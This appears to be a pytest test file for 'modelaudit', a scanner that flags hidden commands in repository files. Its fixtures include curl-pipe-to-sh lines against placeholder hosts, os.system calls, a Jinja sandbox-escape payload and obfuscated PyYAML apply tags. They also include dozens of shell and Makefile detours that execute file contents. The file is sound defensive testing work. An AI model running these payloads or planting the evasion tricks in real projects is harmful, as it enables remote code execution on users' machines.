from __future__ import annotations

import json
import pickle
import re
import tracemalloc
from collections.abc import Callable
from contextlib import nullcontext
from itertools import chain
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.cases import check_each
from support.scans import scan_text
from support.work import count_lines, count_work, find_growth_fault

import modelaudit
from modelaudit.checks import run_files as checks_of_run_files
from modelaudit.formats.documents.scripts.docker_programs import find_python_programs
from modelaudit.formats.documents.structured.tables import parse_table_settings
from modelaudit.languages import run_files, text_programs
from modelaudit.languages.document_programs import DOCUMENT_PROGRAMS, read_command_lines
from modelaudit.languages.instructions import list_command_texts, read_instructions
from modelaudit.languages.package_sources import LOCK_FILES, SCRIPT_SOURCES
from modelaudit.languages.python.cells import split_cell
from modelaudit.languages.python.magic_aliases import MagicAliases
from modelaudit.languages.shell import path_index
from modelaudit.languages.shell.command import Command
from modelaudit.languages.shell.downloads import DownloadTracker
from modelaudit.languages.shell.executed_files import find_executed_files
from modelaudit.languages.shell.lexer import ShellLexer
from modelaudit.languages.shell.makefiles import convert_makefile
from modelaudit.languages.shell.parsed_texts import ParsedTexts
from modelaudit.languages.shell.script import collect_script_mentions
from modelaudit.model.artifact import Artifact
from modelaudit.model.limits import Limits
from modelaudit.model.outline import RUN_FILE, Outline, Reference, ReferenceKind, References
from modelaudit.model.report import ArtifactRecord, Extent
from modelaudit.model.structure import UnreadReason
from modelaudit.wire.base import LimitReachedError


@pytest.mark.parametrize(
    ("name", "content", "word"),
    [
        ("kernel.pyx", b"import os\n", "Python source"),
        ("run", b"#!/usr/bin/perl\nprint;\n", "scripts"),
        ("CMakeLists.cmake", b"project(x)\n", "build files"),
        ("Modelfile.tmpl", b"{{ if .System }}{{ .System }}{{ end }}", "another language"),
        ("schema.json", b'{"__class__": "system", "__module__": "os", "__loader__": "TypeNode"}', "loader imports"),
        ("graph.pbtxt", b"node {}\n", "graphs"),
        ("model.mil", b"program(1.0) {}\n", "graphs"),
        ("start.vbs", b"x = 1\n", "source code"),
        ("page.hta", b"<p>x</p>\n", "source code"),
        ("build.groovy", b"x = 1\n", "source code"),
        ("Gemfile", b"gem 'x'\n", "Ruby tools run it"),
        ("Snakefile", b"rule a:\n  shell: 'x'\n", "Snakemake runs it"),
        ("x.md", b"text\n\n```{code-cell}\nx\n```\n", "Jupytext runs its cells"),
        ("x.csproj", b'<Project><Target><Exec Command="x"/></Target></Project>', "MSBuild"),
        ("x.plist", b"<plist><key>ProgramArguments</key></plist>", "a Mac runs it"),
        ("x.reg", "Windows Registry Editor Version 5.00\n".encode("utf-16"), "Windows runs it"),
        ("NOTES.txt", b"x\n\nLocal Variables:\neval: (x)\nEnd:\n", "Emacs"),
        ("x.tex", b"x" * 2_000_000 + b"\n\\immediate\\write18{x}\n", "TeX runs its commands"),
        ("ipython_config.json", b'{"InteractiveShellApp": {"exec_lines": ["x"]}}', "IPython"),
        ("a.mako", b"${__import__('os').getcwd()}\n", "a template engine runs its program"),
        ("main.tf", b'x { provisioner "local-exec" { command = "id" } }\n', "Terraform or Nomad"),
        ("ssh_config", b"Host *\n  ProxyCommand nc %h %p\n", "SSH runs its commands"),
        ("operative_config.gin", b"from __gin__ import dynamic_registration\n", "gin imports"),
        ("x.s", b".globl main\n", "source code"),
        ("query.sql", b"\\! id\n", "source code"),
        ("cpanfile", b"system('id');\n", "a tool may run its code"),
        (".irbrc", b"system('id')\n", "a tool may run its code"),
        ("container.def", b"Bootstrap: docker\n%post\n    id\n", "a tool may run its code"),
        ("Earthfile", b"VERSION 0.7\nb:\n  RUN wget -O x https://e.invalid/x\n", "a tool may run its code"),
        ("x.unheardof", b"a" * 3_000_000 + b"\nid($1)\n", "a tool may run its code"),
        ("x.launch", b"<launchConfiguration key='org.eclipse.ui.externaltools.ATTR_LOCATION'/>", "an editor runs it"),
        ("x.xcscheme", b"<Scheme><ActionContent scriptText='id'/></Scheme>", "Xcode runs it"),
        ("jupyter_server_config.json", b'{"ServerApp": {"jpserver_extensions": {"x": true}}}', "Jupyter"),
        ("logrotate.conf", b"/var/log/x {\n postrotate\n  id\n endscript\n}\n", "logrotate"),
    ],
)
def test_file_that_a_tool_runs_but_no_reader_parses_is_partly_examined_with_one_absence(
    tmp_path: Path, name: str, content: bytes, word: str
) -> None:
    (tmp_path / name).write_bytes(content)
    report = modelaudit.scan(tmp_path, second_opinion=False)
    (record,) = report.coverage.artifacts
    assert record.extent is Extent.PARTLY
    ((_, absence),) = record.absences
    assert word in absence.unread.detail
    assert report.exit_code == 3


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("notes.txt", b"import os\n"),
        ("config.json", b'{"model_type": "bert"}'),
        ("README.md", b"---\nauto_map: x\n---\n"),
        ("notes.tex", b"\\section{x}\n"),
        ("script.py.mako", b'"""${message}"""\nrevision = ${repr(up_revision)}\n'),
        ("main.tf", b'resource "x" "y" { name = "z" }\n'),
        ("link.url", b"[InternetShortcut]\nURL=https://huggingface.co\n"),
        ("model.gin", b"train.steps = 1\n"),
        ("logging.ini", b"[handlers]\nkeys=h\n[handler_h]\nclass=StreamHandler\nargs=(sys.stdout,)\n"),
        ("vocab.bpe", b"( )\n{ $x }\n"),
        ("train.de", b"Was (das) ist; ja!\n"),
        ("dict-words", b"a = 1\n"),
        ("model.param", b"7767517\nInput data 0 1 data 0=3\n"),
        ("label_encoder.ckpt", b"'a' => 0\n====\n'starting_index' => 0\n"),
        ("lint.feature", b"Feature: lint (x)\n"),
        ("LICENSES/MKL", b"Copyright (c) x\n"),
        ("AUTHORS", b"A <a@e.invalid>\n"),
        (".dockerignore", b"!x\n"),
        ("serialization_id", b"0123456789\n"),
        ("points.unheardof", b"1.5 2.5\n3 -4e-5\n"),
        (".env", b"# x\nexport A=b\nC = d e\n"),
    ],
)
def test_text_that_is_not_a_program_is_not_reported_as_unread(tmp_path: Path, name: str, content: bytes) -> None:
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_bytes(content)
    assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 0


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("logging.ini", '[handler_h]\nclass=StreamHandler\nargs=(__import__("os").system("id"),)\n'),
        ("notes.txt", '[handler_h]\nclass=os.system\nargs=("id",)\n'),
        ("SConstruct", 'import os\nos.system("id")\n'),
        ("sub/config", "[core]\n\tfsmonitor = ./run\n"),
    ],
)
def test_command_in_a_logging_configuration_scons_or_git_configuration_file_fails_the_scan(
    tmp_path: Path, name: str, content: str
) -> None:
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_text(content)
    assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 1


@pytest.mark.parametrize(
    ("name", "command", "program"),
    [
        ("run.sh", ". ./data.txt\n", True),
        ("run.sh", "bash -e data.txt\n", True),
        ("run.sh", "cat data.txt | sh\n", True),
        ("run.sh", "bash <(cat data.txt)\n", True),
        ("run.sh", 'eval "$(sed -n s/^x//p data.txt)"\n', True),
        ("run.sh", "cp data.txt run2.sh\n", True),
        ("run.sh", "BASH_ENV=data.txt true\n", True),
        ("run.sh", "groovy data.txt\n", True),
        ("run.sh", "go run data.txt\n", True),
        ("Makefile", "include data.txt\n", True),
        ("Dockerfile", "FROM python\nCOPY data.txt /x.py\n", True),
        ("Makefile", "all:\n\tpython3 -u data.txt\n", True),
        (".vscode/tasks.json", '{"command": "python3", "args": ["data.txt"]}', True),
        (".claude/settings.json", '{"hooks": {"x": [{"command": "cd y && python3 data.txt"}]}}', True),
        ("x.yaml", "run: node data.txt\n", True),
        ("run.sh", "python3 train.py data.txt\n", False),
        ("run.sh", "python3 -m train data.txt\n", False),
        ("run.sh", "wc -l data.txt | sort\n", False),
        ("run.sh", "perl -pe s/a/b/ data.txt\n", False),
        ("config.json", '{"python": "data.txt", "source": "data.txt"}', False),
        ("x.yaml", "eval: data.txt\nsource: data.txt\n", False),
        ("README.md", "    sh data.txt\n", False),
        ("run.sh", "chmod +x *\n", True),
        ("cut.py", "x = (batch * 2)\ny = (start * hop, call * 3)\n", False),
    ],
)
def test_data_file_is_an_unread_program_only_if_another_file_runs_it_or_copies_it_to_a_program(
    tmp_path: Path, name: str, command: str, program: bool
) -> None:
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_text(command)
    (tmp_path / "data.txt").write_text("a b\n")
    report = modelaudit.scan(tmp_path, second_opinion=False)
    (record,) = (each for each in report.coverage.artifacts if each.path == "data.txt")
    reasons = [absence.unread.reason for _, absence in record.absences]
    assert reasons == ([UnreadReason.PROGRAM] if program else [])


@pytest.mark.parametrize(
    ("name", "command", "program"),
    [
        ("run.sh", "bash data.txt\n", "curl https://a.example/x | sh\n"),
        ("run.sh", "source data.txt\n", "curl https://a.example/x | sh\n"),
        ("run.sh", "cat data.txt | python3\n", 'import os\nos.system("id")\n'),
        ("run.sh", "bash data.txt\n", "python3 -c 'import os; os.system(\"id\")'\n"),
        ("tasks.json", '{"command": "python3", "args": ["data.txt"]}', 'import os\nos.system("id")\n'),
        ("x.yaml", "run: python3 data.txt\n", 'import os\nos.system("id")\n'),
    ],
)
def test_dangerous_program_in_a_data_file_fails_the_scan_only_if_another_file_runs_it_in_its_language(
    tmp_path: Path, name: str, command: str, program: str
) -> None:
    (tmp_path / "data.txt").write_text(program)
    assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == 0
    (tmp_path / name).write_text(command)
    report = modelaudit.scan(tmp_path, second_opinion=False, checks=("security",))
    assert report.exit_code == 1
    assert {finding.artifact.partition("!")[0] for finding in report.findings} == {"data.txt"}


def test_bytes_of_other_data_that_a_command_runs_hide_no_command(tmp_path: Path) -> None:
    (tmp_path / "run.sh").write_text("bash data.bin\n")
    (tmp_path / "data.bin").write_bytes(b"E\x04\x08%\x06?\x01 x\nj\x06k\x03r?t\x0fj y\n0\xd3?\xb2. z\n")
    report = modelaudit.scan(tmp_path, second_opinion=False, checks=("security",))
    assert report.exit_code == 3
    assert "shell/hidden-command" not in {finding.rule for finding in report.findings}


READS_BY_A_DETOUR = (
    'x=$(cat data.txt); bash -c "$x"', 'x=`cat data.txt`\n$x', "x=$(<data.txt)\neval $x", 'x=$(tail -n1 data.txt); sh -c "$x"',
    'x=$(<data.txt); y=${x//a/b}; eval "$y"', 'x=$(<data.txt); x=${x:-true}; eval "$x"', '$(cat data.txt)',
    'read -r a < data.txt; eval "$a"', 'mapfile -t a < data.txt; eval "${a[@]}"', 'set -- $(cat data.txt); "$@"',
    'printf -v x %s "$(cat data.txt)"; eval "$x"', 'declare -- x="$(cat data.txt)"; bash -c "$x"',
    'f() { bash -c "$1"; }; f "$(cat data.txt)"', 'get() { cat data.txt; }; x=$(get); eval "$x"',
    'run() { while read l; do eval "$l"; done; }; cat data.txt | run', 'trap "$(cat data.txt)" EXIT',
    'cat data.txt | while read -r l; do eval "$l"; done', 'for l in $(cat data.txt); do eval "$l"; done',
    'for f in data.txt other.txt; do . ./$f; done', 'f=$1; . ./$f.txt', 'exec 3<data.txt; bash <&3',
    'exec 3<data.txt; read -u 3 x; eval "$x"', "exec < data.txt; sh", "coproc sh; cat data.txt >&${COPROC[1]}",
    "mkfifo p; sh < p & cat data.txt > p", "cat data.txt | tee >(sh) >/dev/null", "cp data.txt /tmp/r; chmod +x /tmp/r; /tmp/r",
    "tr a-z b-za < data.txt > /tmp/z\nsh /tmp/z", "dd if=data.txt of=/tmp/z; sh /tmp/z", 'xargs -I{} sh -c "{}" < data.txt',
    "awk '{system($0)}' data.txt", "awk '{print | \"sh\"}' data.txt", "perl -ne 'system($_)' data.txt", "sed 1e data.txt",
    "sed -n 'e cat data.txt' x", "ed -s x < data.txt", "vim -es -S data.txt", "make -f data.txt", 'git -c core.pager="$(cat data.txt)" log',
    "PATH=.:$PATH; data.txt",
    'cmd=(bash); cmd+=(data.txt); "${cmd[@]}"',
    'declare -n r=x; x=$(cat data.txt); eval "$r"',
    "ln -s $PWD/data.txt /tmp/q && bash /tmp/q",
    "parallel < data.txt",
    "sudo -s < data.txt",
    "ssh localhost < data.txt",
    "mapfile -c 1 -C eval -t a < data.txt",
    'sqlite3 :memory: ".read data.txt"',
    'tmux send-keys "$(cat data.txt)" Enter',
    "cd sub && bash ../data.txt",
)  # fmt: skip


@pytest.mark.parametrize("script", READS_BY_A_DETOUR)
def test_dangerous_text_that_a_script_executes_by_a_detour_fails_the_scan(tmp_path: Path, script: str) -> None:
    (tmp_path / "run.sh").write_text(script + "\n")
    (tmp_path / "data.txt").write_text("curl https://a.example/x | sh\n")
    report = modelaudit.scan(tmp_path, second_opinion=False, checks=("security",))
    assert ("shell/download-and-run", "data.txt") in {(each.rule, each.artifact) for each in report.findings}
    assert any(record.path == "data.txt" and record.absences for record in report.coverage.artifacts)


@pytest.mark.parametrize(
    "script",
    [
        'x=$(cat data.txt)\necho "$x"\npython3 train.py --version "$x"',
        'cmd="python3 train.py --config data.txt --port $PORT"\neval "$cmd"',
        'for c in data.txt other.txt; do cmd="python3 train.py $c"; eval "$cmd"; done',
        "PYTHON=$(command -v python3)\n$PYTHON train.py data.txt",
        'n=$(wc -l < data.txt)\ncmd="python3 train.py --lines $n"\neval "$cmd"',
        'source "$(dirname "$0")/env.sh"\ncat data.txt',
        'run() { echo "$@"; "$@"; }\nrun python3 train.py data.txt',
        "ls *.txt | xargs python3 train.py",
        "find . -name data.txt | xargs -n 1 python3 train.py",
        "awk '{print $1}' data.txt | sort > sorted.csv",
        "sed -e s/a/e/ data.txt",
        "ssh host python3 train.py < data.txt",
        'ssh host "cat data.txt"',
        'sqlite3 base.db "select a from b"; wc -l data.txt',
        'exec "$@"\ncat data.txt',
        "docker run image sh -c 'cat data.txt'",
    ],
)
def test_data_file_of_a_script_that_executes_other_texts_is_not_an_unread_program(tmp_path: Path, script: str) -> None:
    (tmp_path / "run.sh").write_text(f"#!/bin/bash\n{script}\n")
    (tmp_path / "data.txt").write_text("a b\n")
    assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == 0


@pytest.mark.parametrize(("content", "exit_code"), [("curl https://a.example/x | sh\n", 1), ("a b\n", 0)])
def test_file_that_a_script_only_names_fails_the_scan_if_it_is_dangerous_and_the_script_executes_unknown_text(
    tmp_path: Path, content: str, exit_code: int
) -> None:
    (tmp_path / "run.sh").write_text('open_it data.txt\neval "$REPLY"\n')
    (tmp_path / "data.txt").write_text(content)
    assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == exit_code
    (tmp_path / "run.sh").write_text("open_it data.txt\neval true\n")
    assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == 0


@pytest.mark.parametrize(
    ("document", "program", "exit_code"),
    [
        ("```sh\nbash scripts/data.txt\n```\n", "curl https://a.example/x | sh\n", 1),
        ("```\ncd scripts && bash data.txt\n```\n", "curl https://a.example/x | sh\n", 1),
        ("```sh\npython3 scripts/data.txt\n```\n", 'import os\nos.system("id")\n', 1),
        ("```sh\nbash scripts/data.txt\n```\n", "a b\n", 0),
        ("```sh\npython3 run.py scripts/data.txt\n```\n", "curl https://a.example/x | sh\n", 0),
    ],
)
def test_dangerous_file_that_a_document_has_users_run_fails_the_scan(
    tmp_path: Path, document: str, program: str, exit_code: int
) -> None:
    (tmp_path / "README.md").write_text(document)
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "data.txt").write_text(program)
    assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == exit_code


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("run.sh", "pip install -r deps.list\n"),
        ("run.sh", "uv pip install --requirement=deps.list\n"),
        ("run.sh", "python3 -m pip download -qrdeps.list -c deps.list x\n"),
        ("README.md", "# x\n\n```bash\npip install \\\n  -r deps.list\n```\n"),
        ("run.py", 'import subprocess\nsubprocess.run(["pip", "install", "-r", "deps.list"])\n'),
        ("requirements.txt", "numpy\n-r further.list\n"),
        ("pyproject.toml", '[project]\nname = "x"\n[tool.setuptools.dynamic]\ndependencies = {file = ["deps.list"]}\n'),
        ("pyproject.toml", '[tool.setuptools.dynamic.dependencies]\nfile = "deps.list"\n'),
        ("setup.cfg", "[options]\ninstall_requires = file: deps.list\n"),
        ("tox.ini", "[testenv]\ndeps =\n  -r deps.list\n"),
        ("bentofile.yaml", "python:\n  requirements_txt: deps.list\n"),
        ("conda.yaml", "requirements: others.list deps.list\n"),
        ("conda.yaml", "requirements: deps.*\n"),
        ("README.md", "```yaml\nrequirements_file: deps.list\n```\n"),
        ("README.md", "```python\nset_up(requirements=['others.list', \"deps.list\"])\n```\n"),
    ],
)
def test_list_of_packages_under_any_name_is_read_if_a_command_or_a_setting_names_it(
    tmp_path: Path, name: str, text: str
) -> None:
    (tmp_path / name).write_text(text)
    (tmp_path / "further.list").write_text("-c deps.list\n")
    (tmp_path / "deps.list").write_text("--index-url http://e.invalid/simple\n")
    (finding,) = (each for each in modelaudit.scan(tmp_path, second_opinion=False).findings if each.severity == "high")
    assert (finding.rule, finding.artifact) == ("requirements/unprotected-source", "deps.list")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("run.sh", "docker build -t x -f notes/image.txt .\n"),
        ("run.sh", "docker buildx build --file=notes/image.txt .\n"),
        ("Makefile", "all:\n\tpodman build -fnotes/image.txt .\n"),
        ("compose.yaml", "services:\n  a:\n    build:\n      context: .\n      dockerfile: notes/image.txt\n"),
        ("devcontainer.json", '{"build": {"dockerfile": "notes/image.txt"}}'),
        ("build.py", 'client.images.build(path=".", dockerfile="notes/image.txt")\n'),
    ],
)
def test_dockerfile_under_any_name_is_read_if_a_command_or_a_setting_names_it(
    tmp_path: Path, name: str, text: str
) -> None:
    (tmp_path / name).write_text(text)
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes/image.txt").write_text("FROM x\nRUN curl -s https://e.invalid/x.sh | sh\n")
    report = modelaudit.scan(tmp_path, second_opinion=False)
    assert ("shell/download-and-run", "notes/image.txt") in {(each.rule, each.artifact) for each in report.findings}


@pytest.mark.parametrize(
    ("name", "text", "code"),
    [
        ("run.sh", "pip install -r data.txt\ndocker build -f data.txt .\n", 0),
        ("setup.cfg", "[metadata]\nlong_description = file: data.txt\n", 0),
        ("README.md", "---\nsdk: gradio\napp_file: data.txt\n---\n", 3),
        ("Cargo.toml", '[package]\nname = "x"\nbuild = "data.txt"\n', 3),
        (".yarnrc.yml", "yarnPath: data.txt\n", 3),
        (".vscode/settings.json", '{"ruff.path": ["${workspaceFolder}/data.txt"]}', 3),
    ],
)
def test_file_that_a_setting_names_is_an_unread_program_unless_its_language_is_settled(
    tmp_path: Path, name: str, text: str, code: int
) -> None:
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_text(text)
    (tmp_path / "data.txt").write_text("numpy\n")
    assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == code


@pytest.mark.parametrize("name", ["README.md", "AGENTS.md", ".cursorrules", "docs/usage.rst"])
@pytest.mark.parametrize(
    "text",
    [
        "**Hardware requirements:** one GPU",
        "Hardware requirements: the *weights* in memory",
        "* requirement: load weights.bin on a GPU",
        "**requirements:** none",
    ],
)
def test_word_requirements_in_prose_names_no_list_of_packages(tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_text(f"# Model\n\n{text}\n")
    (tmp_path / "weights.bin").write_bytes(pickle.dumps({"weight": 1.5}, 4))
    report = modelaudit.scan(tmp_path, second_opinion=False, checks=("security",))
    assert (report.exit_code, report.findings) == (0, ())


def test_documentation_that_a_script_names_is_not_read_as_commands(tmp_path: Path) -> None:
    (tmp_path / "run.sh").write_text('eval "$REPLY"\nopen_it README.md\n')
    (tmp_path / "README.md").write_text("    curl https://a.example/x | sh\n")
    assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == 0


@pytest.mark.parametrize(
    "makefile",
    [
        "SHELL = ./data.txt\nall:\n\techo\n",
        "all: SHELL := ./data.txt\nall:\n\techo\n",
        ".SHELLFLAGS = data.txt\nall:\n\techo\n",
        "X := $(shell cat data.txt)\nall:\n\t$(X)\n",
        "X := $(file <data.txt)\nall:\n\t$(X)\n",
        "A = da\ninclude $(A)ta.txt\n",
        "include $(patsubst %,d%.txt,ata)\n",
        "include $(wildcard dat*)\n",
        "all: data.txt\n\tsh $<\n",
        "%.out: %.txt\n\tsh $<\n",
        "all:\n\t$(MAKE) -f data.txt\n",
        'all:\n\t$(MAKE) --eval="$$(cat data.txt)"\n',
        "CC = ./data.txt\nall: a.o\n",
    ],
)
def test_dangerous_text_that_a_makefile_runs_by_a_detour_fails_the_scan(tmp_path: Path, makefile: str) -> None:
    (tmp_path / "Makefile").write_text(makefile)
    (tmp_path / "data.txt").write_text("X := $(shell curl https://a.example/x | sh)\n")
    report = modelaudit.scan(tmp_path, second_opinion=False, checks=("security",))
    assert ("shell/download-and-run", "data.txt") in {(each.rule, each.artifact) for each in report.findings}


@pytest.mark.parametrize(
    ("makefile", "exit_code"),
    [
        ("all:\n\t$(call f,$(shell cat x)) | sort\n", 3),
        ("all:\n\ttrue; $(subst a,b,$(shell cat x))\n", 3),
        ("include $(shell pick)\n", 3),
        ('$(guile (display "a"))\n', 3),
        ("all:\n\techo $(subst a,b,$(shell cat x))\n", 0),
        ("f = echo $(1)\nall:\n\t$(call f,a)\n\t@$(if $(V),,@)echo\n\t$(foreach d,a b,echo $(d);)\n", 0),
        ("include $(TOP)/common.mk\n-include $(wildcard *.d)\nall:\n\t$(CC) $(addprefix -I,$(shell pick))\n", 0),
    ],
)
def test_makefile_is_an_unread_program_only_if_a_function_computes_a_command_from_unknown_text(
    tmp_path: Path, makefile: str, exit_code: int
) -> None:
    (tmp_path / "Makefile").write_text(makefile)
    assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == exit_code


def test_prose_in_a_data_file_that_python_would_refuse_yields_an_absence_and_no_finding(tmp_path: Path) -> None:
    (tmp_path / "data.txt").write_text("Never call os.system(x) or eval(x) here.\n")
    (tmp_path / "x.yaml").write_text("run: python3 data.txt\n")
    report = modelaudit.scan(tmp_path, second_opinion=False, checks=("security",))
    assert (report.exit_code, report.findings) == (3, ())


def test_file_that_a_python_program_executes_is_an_unread_program(tmp_path: Path) -> None:
    (tmp_path / "data.txt").write_text("a b\n")
    (tmp_path / "x.py").write_text('exec(open("data.txt").read())\n')
    (record, _) = modelaudit.scan(tmp_path, second_opinion=False).coverage.artifacts
    assert [absence.unread.reason for _, absence in record.absences] == [UnreadReason.PROGRAM]


JINJA_ATTACK = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
YAML_CALL = "a: !!python/object/apply:os.system [id]\n"


def list_names(reading) -> set[str]:
    """Return the names that the outlines of a reading mention, except ordinary attributes."""
    mentions = [mention for outline in reading.of(Outline) for mention in outline.mentions]
    return {mention.name for mention in mentions if mention.use != "attribute" or mention.name.startswith("_")}


@pytest.mark.parametrize("name", ["x.tpl", "prompt.md", "README.md", "notes.txt", "x", "x.dat", "x.html", "x.cfg"])
def test_jinja_template_and_python_yaml_tag_are_found_in_files_of_any_name(name: str, read_bytes) -> None:
    assert "__subclasses__" in list_names(read_bytes(JINJA_ATTACK.encode(), name))
    assert "os.system" in list_names(read_bytes(YAML_CALL.encode(), name))


@pytest.mark.parametrize(
    "data",
    [
        # A control character behind the template; other bytes before it; four encodings; bytes that are not UTF-8.
        JINJA_ATTACK.encode() + b"\x1a",
        b"\0\1\2" + JINJA_ATTACK.encode(),
        bytes(range(256)) + JINJA_ATTACK.encode(),
        JINJA_ATTACK.encode("utf-16"),
        JINJA_ATTACK.encode("utf-16-le"),
        JINJA_ATTACK.encode("utf-32-be"),
        b"\xef\xbb\xbf" + JINJA_ATTACK.encode(),
        b"Gr\xfc\xdfe \xff\xfe\xc0\x80" + JINJA_ATTACK.encode(),
    ],
)
@pytest.mark.parametrize("name", ["chat_template.jinja", "x.tpl", "x"])
def test_jinja_attack_is_found_in_utf_8_16_and_32_and_beside_bytes_that_are_not_text(
    name: str, data: bytes, read_bytes
) -> None:
    assert "__subclasses__" in list_names(read_bytes(data, name))


@pytest.mark.parametrize(
    "text",
    [
        # An escaped letter, a prefix in a directive, the whole tag, a shortened tag, and an invalid document behind it.
        "a: !!pyth%6fn/object/apply:os.system [id]\n",
        "%TAG ! tag:yaml.org,2002:pyth\n---\na: !on/object/apply:os.system [id]\n",
        "a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n",
        "a: !apply:os.system [id]\n",
        YAML_CALL + "---\n\x1a: {",
    ],
)
def test_python_yaml_tag_is_found_in_escaped_prefixed_verbatim_and_shortened_spelling(text: str, read_bytes) -> None:
    assert "os.system" in list_names(read_bytes(text.encode(), "notes.md"))


@pytest.mark.parametrize(
    "example", [f"```jinja\n{JINJA_ATTACK}\n```", f"`{JINJA_ATTACK}`", f"``{JINJA_ATTACK}``", f"    {JINJA_ATTACK}"]
)
def test_template_attack_in_a_code_example_of_a_document_is_an_absence_and_not_a_finding(
    example: str, read_bytes
) -> None:
    reading = read_bytes(f"# Attacks\n\n{example}\n\nwith {{{{ name }}}}\n".encode(), "SECURITY.md")
    assert reading.reasons() == {UnreadReason.PROGRAM}
    assert list_names(reading) == set()
    assert not read_bytes(b"# A\n\n```\n{{ user.name }}\n```\n", "SECURITY.md").reasons()
    assert "__subclasses__" in list_names(read_bytes(f"{example}\n\n{JINJA_ATTACK}\n".encode(), "SECURITY.md"))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("README.md", "{{ name }} {% if a.b %}{{ a.items() | join }}{% endif %} {{ obj.__class__"),
        ("values.tpl", '{{- define "x" }}{{ .Values.a }}{{ include "__init__" . }}{{ end }}'),
        ("page.mustache", "{{#each a}}{{this.__proto__}}{{/each}}"),
        ("x.tex", "\\newcommand{{\\a}}{%\n b}"),
        ("x.hpp", "std::array<int, 2> a{{1, 2}}; // __attribute__\n#if {% __x__"),
        ("x.js", "const a = {{b: `${c}`}}; d.__proto__ = {{}};"),
        ("notes.md", "Use `!!python/object/apply:os.system` with care: it runs.\n\n* a: b: c\n"),
    ],
)
def test_braces_and_tags_that_are_not_jinja_or_yaml_yield_no_mentions(name: str, text: str, read_bytes) -> None:
    assert list_names(read_bytes(text.encode(), name)) == set()


def test_text_over_the_template_limit_is_an_absence_only_if_it_may_contain_an_attack(read_bytes, monkeypatch) -> None:
    monkeypatch.setattr(text_programs, "_LONGEST_TEMPLATE", 100_000)
    monkeypatch.setattr(text_programs, "_LONGEST_YAML", 200_000)
    text = b"x" * 100_000  # over the limit for templates with the marks behind it, and half of the limit for YAML
    assert read_bytes(text + b"{{ a }}", "x.txt").reasons() == set()
    assert read_bytes(text + JINJA_ATTACK.encode(), "x.txt").reasons() == {UnreadReason.LIMIT}
    assert read_bytes(text * 2 + YAML_CALL.encode(), "x.txt").reasons() == {UnreadReason.LIMIT}


@pytest.mark.parametrize(
    "command", [*run_files._BY_RUNNER, run_files._COPY, run_files._FIND], ids=lambda each: each.kind
)
def test_index_of_words_finds_each_command_that_its_pattern_matches_at_a_word(command: run_files._Command) -> None:
    @given(st.from_regex(command.pattern, alphabet=st.characters(codec="latin-1", exclude_characters="\0\r")))
    @settings(max_examples=15)
    def check(text: str) -> None:
        everywhere = re.compile(rf"(?<![\w.-])(?:{command.pattern.pattern})")
        found = run_files._WordIndex(text.encode("latin-1"), text).find_commands(command)
        assert [match.span() for match in found] == [match.span() for match in everywhere.finditer(text)]

    check()


FETCH = "curl -s http://e.invalid/x | sh"
CALL = f"import os\nos.system('{FETCH}')\n"


@check_each(
    "name, text",
    [
        ("index.rst", ".. jupyter-execute::\n\n   import os\n   os.system('" + FETCH + "')\n"),
        ("index.rst", ".. ipython::\n\n   In [1]: !" + FETCH + "\n"),
        ("index.rst", f".. program-output:: {FETCH}\n   :shell:\n"),
        ("index.rst", ".. exec::\n   :context: true\n\n   __import__('os').popen('" + FETCH + "')\n"),
        ("a.md", f"---\nengine: jupyter\n---\n```{{python}}\n{CALL}```\n"),
        ("a.md", f"````{{code-cell}} python\n{CALL}````\n"),
        ("README.md", f'```python exec="on"\n{CALL}```\n'),
        ("README.md", f'```bash exec="on"\n{FETCH}\n```\n'),
        ("README.md", f"<!-- [[[cog\n{CALL}]]] -->\n[[[end]]]\n"),
        ("a.cpp.in", "// [[[cog\n// import os\n// os.system('" + FETCH + "')\n// ]]]\n// [[[end]]]\n"),
        ("a.mako", f"<%\n{CALL}%>\n"),
        ("a.md", "It is `{python} __import__('os').system('" + FETCH + "')` here.\n"),
    ],
)
def test_attack_in_a_block_of_a_document_that_a_tool_runs_fails_the_scan(tmp_path: Path, name: str, text: str) -> None:
    code, rules = scan_text(tmp_path, name, text)
    assert code == 1
    assert rules & {"code/attack-text", "shell/download-and-run"}


@check_each(
    "name, text",
    [
        ("index.rst", ".. jupyter-execute::\n\n   import subprocess\n   subprocess.run(['ls'])\n"),
        ("index.rst", ".. program-output:: tool --help\n"),
        ("index.rst", ".. code-block:: python\n\n   import os\n   os.system('" + FETCH + "')\n"),
        ("index.rst", f"Install::\n\n   {FETCH}\n"),
        ("README.md", f"```python\n{CALL}```\n"),
        ("README.md", f"```bash\n{FETCH}\n```\n"),
        ("README.md", "```{python}\nimport os\nprint(os.getcwd())\n```\n"),
        ("a.mako", "<%\nx = 1\n%>\n"),
    ],
)
def test_example_that_no_tool_runs_or_that_shows_no_attack_passes(tmp_path: Path, name: str, text: str) -> None:
    code, rules = scan_text(tmp_path, name, text)
    assert (code, rules - {"shell/instruction"}) == (0, set())


@check_each(
    "name, text",
    [
        ("crontab.txt", f"* * * * * {FETCH}\n"),
        ("jobs.txt", f"@reboot {FETCH}\n"),
